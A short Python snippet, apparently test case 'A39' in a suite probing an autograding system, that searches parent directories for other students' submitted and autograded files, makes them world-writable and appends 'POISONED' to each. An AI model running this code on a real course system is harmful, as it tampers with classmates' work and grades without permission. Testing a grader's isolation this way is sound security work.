"""A39 Changes what stands in a classmate's submitted and autograded folders."""

# %% extra
import glob
import os

for root in ("@COURSE@", "../../..", "../../../.."):
    for path in glob.glob(f"{root}/submitted/*/*/*") + glob.glob(f"{root}/autograded/*/*/*"):
        try:
            os.chmod(path, 0o666)
            with open(path, "a") as file:
                file.write("POISONED")
        except OSError as error:
            print(error)
